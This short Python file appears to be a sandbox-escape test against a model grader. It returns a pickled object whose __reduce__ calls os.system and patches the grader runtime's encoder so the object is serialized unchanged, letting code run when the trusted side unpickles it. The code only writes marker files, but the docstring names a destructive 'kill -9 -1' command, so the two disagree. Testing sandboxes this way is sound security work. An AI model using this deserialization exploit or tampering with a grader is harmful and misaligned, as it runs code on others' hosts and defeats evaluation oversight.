"""Return an object whose __reduce__ runs code when the grader unpickles it.

dense_channels returns an ``Exploit`` whose ``__reduce__`` is
``(os.system, ("touch /tmp/attack-marker-reduce; kill -9 -1",))``; the
encoder is patched so torch.save pickles it as is. A trusted side that
unpickled it would run the command as the grader.
"""
import os

import grader.sandbox.runtime as runtime


class Exploit:
    def __reduce__(self):
        return (os.system, ("touch /tmp/attack-marker-reduce /dev/shm/attack-marker-reduce",))


def dense_channels(in_channels, num_layers, growth_rate):  # noqa: F811
    return Exploit()


_encode = runtime.Runtime.encode
runtime.Runtime.encode = lambda self, obj, depth=0: obj if isinstance(obj, Exploit) else _encode(self, obj, depth)
print("ATTACK-DONE")
